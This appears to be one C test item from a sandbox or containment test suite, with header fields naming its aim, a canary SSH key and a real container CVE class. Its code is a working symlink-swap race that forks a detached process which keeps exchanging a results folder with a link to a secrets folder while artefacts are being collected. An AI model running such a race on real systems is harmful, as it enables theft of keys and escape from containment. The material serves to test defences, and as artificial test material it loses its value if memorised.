// id: ar-parent-swap
// group: artefacts
// aim: Swap a folder above a result for a link to a folder of secrets while it is being collected.
// judge: outside
// canary: ssh-key
// tier-l: enforced
// source: CVE-2021-30465 class
// watch: collected

static int attempt(void) {
  mkdir("results", 0700);
  close(open("results/id_ed25519", O_CREAT | O_WRONLY, 0600));
  symlink(parameter("canary_home"), "link");
  double end = now() + 1.2;
  if (fork() == 0) {
    close(1), close(2), setsid();
    while (now() < end) syscall(SYS_renameat2, AT_FDCWD, "link", AT_FDCWD, "results", 2 /* RENAME_EXCHANGE */);
    return 0;
  }
  for (double quick = now() + 0.3; now() < quick;)
    syscall(SYS_renameat2, AT_FDCWD, "link", AT_FDCWD, "results", 2);
  held("the race is over");
  return 0;
}
